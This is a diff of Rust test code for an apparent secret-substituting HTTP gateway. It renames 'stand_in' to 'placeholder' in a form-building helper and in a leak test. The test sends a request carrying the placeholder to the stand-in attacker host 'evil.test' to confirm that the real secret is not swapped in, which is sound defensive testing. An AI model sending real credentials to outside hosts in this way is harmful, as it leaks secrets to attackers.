@@ -87,14 +87,14 @@ async fn forms(gate: &Gate) -> Vec<Form> {
     ] {
         let secret = gate.secret(kind, host, None, config, value).await;
         let header = match host {
-            "e.good.test" => Some(("x-key", secret.stand_in.clone())),
+            "e.good.test" => Some(("x-key", secret.placeholder.clone())),
             "f.good.test" => {
-                let pair = BASE64_STANDARD.encode(format!("user:{}", secret.stand_in));
+                let pair = BASE64_STANDARD.encode(format!("user:{}", secret.placeholder));
                 Some(("authorization", format!("Basic {pair}")))
             }
             _ => None,
         };
-        forms.push(Form { host, path: path.replace("STANDIN", &secret.stand_in), secret, header });
+        forms.push(Form { host, path: path.replace("STANDIN", &secret.placeholder), secret, header });
     }
     forms
 }
@@ -204,12 +204,12 @@ async fn nothing_shows_where_the_upstream_never_answers() {
 }
 
 #[tokio::test]
-async fn nothing_shows_where_a_stand_in_is_misused_or_the_way_is_not_secret() {
+async fn nothing_shows_where_a_placeholder_is_misused_or_the_way_is_not_secret() {
     let gate = Gate::start().await;
     let agent = gate.agent().await;
     let secrets = [VALUE, &agent.token];
     for form in forms(&gate).await {
-        let misuse = Request::get(format!("https://evil.test/x?q={}", form.secret.stand_in))
+        let misuse = Request::get(format!("https://evil.test/x?q={}", form.secret.placeholder))
             .body(Bytes::new())
             .unwrap();
         let reply = agent.send_http2(misuse).await;
